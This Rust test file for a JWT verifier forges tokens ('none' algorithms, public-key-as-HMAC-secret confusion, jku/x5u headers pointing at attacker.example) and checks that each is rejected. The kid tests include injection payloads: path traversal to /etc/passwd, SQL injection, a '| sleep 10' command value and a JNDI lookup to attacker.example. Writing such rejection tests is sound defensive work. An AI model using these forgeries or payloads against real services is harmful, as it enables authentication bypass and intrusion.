//! Forged headers: the algorithm, the key, the kind of token, and requests for trust.

use base64::engine::general_purpose::STANDARD;
use ring::hmac;

use super::*;

fn hmac_signed(algorithm: hmac::Algorithm, secret: &[u8], header: &Value) -> String {
    let message = message(header, claims());
    let tag = hmac::sign(&hmac::Key::new(algorithm, secret), message.as_bytes());
    format!("{message}.{}", base64url(tag))
}

#[test]
fn unsigned_tokens() {
    let keys = SigningKeys::in_memory().unwrap();
    let mut forgeries = Vec::new();
    for algorithm in ["none", "None", "NONE", "nOnE", "none ", "", "null"] {
        let head = with(header(&keys), "alg", algorithm);
        let unsigned = message(&head, claims());
        forgeries.push((format!("alg {algorithm:?}, empty signature"), format!("{unsigned}."), TokenFault::Algorithm));
        forgeries.push((format!("alg {algorithm:?}, no third part"), unsigned, TokenFault::Algorithm));
        forgeries.push((
            format!("alg {algorithm:?}, our signature"),
            signed(&keys, head, claims()),
            TokenFault::Algorithm,
        ));
    }
    let unsigned = message(header(&keys), claims());
    forgeries.push(("EdDSA, empty signature".into(), format!("{unsigned}."), TokenFault::Signature));
    forgeries.push(("EdDSA, no third part".into(), unsigned, TokenFault::Malformed));
    forgeries.push((
        "alg null".into(),
        signed(&keys, with(header(&keys), "alg", Value::Null), claims()),
        TokenFault::Header,
    ));
    forgeries.push(("alg absent".into(), signed(&keys, without(header(&keys), "alg"), claims()), TokenFault::Header));
    forgeries.push((
        "the unsecured example of RFC 7519".into(),
        "eyJhbGciOiJub25lIn0.eyJpc3MiOiJqb2UiLA0KICJleHAiOjEzMDA4MTkzODAsDQogImh0dHA6Ly9leGFtcGxlLmNvbS9pc19yb290Ijp0cnVlfQ."
            .into(),
        TokenFault::Header,
    ));
    expect_all(&keys, forgeries);
}

#[test]
fn the_public_key_used_as_a_shared_secret() {
    let keys = SigningKeys::in_memory().unwrap();
    let x = keys.jwks()["keys"][0]["x"].as_str().unwrap().to_owned();
    let raw = URL_SAFE_NO_PAD.decode(&x).unwrap();
    // The fixed head of an Ed25519 SubjectPublicKeyInfo (RFC 8410).
    let spki = [hex::decode("302a300506032b6570032100").unwrap(), raw.clone()].concat();
    let pem = format!("-----BEGIN PUBLIC KEY-----\n{}\n-----END PUBLIC KEY-----\n", STANDARD.encode(&spki));
    let mut forgeries = Vec::new();
    for (form, secret) in [("raw", raw), ("x", x.into_bytes()), ("DER", spki), ("PEM", pem.into_bytes())] {
        for (name, algorithm) in
            [("HS256", hmac::HMAC_SHA256), ("HS384", hmac::HMAC_SHA384), ("HS512", hmac::HMAC_SHA512)]
        {
            let honest = hmac_signed(algorithm, &secret, &with(header(&keys), "alg", name));
            forgeries.push((format!("{name}, {form} public key"), honest, TokenFault::Algorithm));
            let lying = hmac_signed(algorithm, &secret, &header(&keys));
            forgeries.push((format!("{name} called EdDSA, {form} public key"), lying, TokenFault::Signature));
        }
    }
    expect_all(&keys, forgeries);
}

#[test]
fn other_algorithms() {
    let keys = SigningKeys::in_memory().unwrap();
    let names =
        ["RS256", "PS256", "ES256", "ES256K", "ES384", "HS256", "Ed448", "Ed25519", "eddsa", "EDDSA", "EdDSA ", "dir"];
    let forgeries = names.map(|name| {
        (format!("alg {name}"), signed(&keys, with(header(&keys), "alg", name), claims()), TokenFault::Algorithm)
    });
    expect_all(&keys, forgeries.into());
}

#[test]
fn headers_that_ask_for_trust() {
    let keys = SigningKeys::in_memory().unwrap();
    let attacker = SigningKeys::in_memory().unwrap();
    let jwk = attacker.jwks()["keys"][0].clone();
    let mut forgeries = Vec::new();
    for (member, value) in [
        ("jwk", jwk.clone()),
        ("jku", json!("https://attacker.example/jwks.json")),
        ("x5u", json!("https://attacker.example/chain.pem")),
        ("x5c", json!(["MIIB"])),
        ("x5t", json!("aaaa")),
        ("x5t#S256", json!("aaaa")),
        ("crit", json!(["exp"])),
        ("crit", json!([])),
        ("b64", json!(false)),
        ("zip", json!("DEF")),
        ("enc", json!("A256GCM")),
        ("cty", json!("JWT")),
        ("epk", jwk),
        ("kid ", json!("x")),
    ] {
        let head = with(header(&keys), member, value);
        forgeries.push((format!("{member}, our signature"), signed(&keys, &head, claims()), TokenFault::Header));
        forgeries.push((format!("{member}, their signature"), signed(&attacker, &head, claims()), TokenFault::Header));
    }
    let twice = format!(r#"{{"alg":"none","typ":"at+jwt","kid":"{}","alg":"EdDSA"}}"#, keys.kid());
    forgeries.push(("alg twice".into(), signed(&keys, twice, claims()), TokenFault::Header));
    for (name, head) in
        [("a list", "[]"), ("a string", "\"EdDSA\""), ("null", "null"), ("no JSON", "{"), ("nothing", "")]
    {
        forgeries.push((format!("the header is {name}"), signed(&keys, head, claims()), TokenFault::Header));
    }
    let trailing = format!("{} {{}}", header(&keys));
    forgeries.push(("two headers".into(), signed(&keys, trailing, claims()), TokenFault::Header));
    expect_all(&keys, forgeries);
}

#[test]
fn key_ids_that_are_not_ours() {
    let keys = SigningKeys::in_memory().unwrap();
    let attacker = SigningKeys::in_memory().unwrap();
    let mut forgeries = Vec::new();
    for kid in [
        "",
        " ",
        "0",
        "0001.pem",
        "../../../../dev/null",
        "/dev/null",
        "..\\..\\windows\\win.ini",
        "file:///etc/passwd",
        "https://attacker.example/key",
        "' OR '1'='1",
        "x' UNION SELECT 'secret' --",
        "| sleep 10",
        "${jndi:ldap://attacker.example/a}",
        "\u{0}",
        attacker.kid(),
        &keys.kid().to_uppercase(),
        &format!("{} ", keys.kid()),
        &format!("{}\u{0}", keys.kid()),
        &keys.kid()[1..],
    ] {
        forgeries.push((
            format!("kid {kid:?}"),
            signed(&keys, with(header(&keys), "kid", kid), claims()),
            TokenFault::Key,
        ));
    }
    for (name, head) in [
        ("absent", without(header(&keys), "kid")),
        ("null", with(header(&keys), "kid", Value::Null)),
        ("a number", with(header(&keys), "kid", 1)),
        ("a list", with(header(&keys), "kid", json!([keys.kid()]))),
    ] {
        forgeries.push((format!("kid {name}"), signed(&keys, head, claims()), TokenFault::Header));
    }
    forgeries.push((
        "another service's token".into(),
        issue(&attacker, &settings(), subject(), NOW).unwrap(),
        TokenFault::Key,
    ));
    forgeries.push((
        "our kid, their signature".into(),
        signed(&attacker, header(&keys), claims()),
        TokenFault::Signature,
    ));
    expect_all(&keys, forgeries);
}

#[test]
fn other_kinds_of_token() {
    let keys = SigningKeys::in_memory().unwrap();
    let mut forgeries = Vec::new();
    for kind in ["JWT", "jwt", "", "AT+JWT", "application/at+jwt", "id+jwt", "logout+jwt", "dpop+jwt", "at+jwt "] {
        forgeries.push((
            format!("typ {kind:?}"),
            signed(&keys, with(header(&keys), "typ", kind), claims()),
            TokenFault::Type,
        ));
    }
    forgeries.push(("no typ".into(), signed(&keys, without(header(&keys), "typ"), claims()), TokenFault::Header));
    expect_all(&keys, forgeries);
}
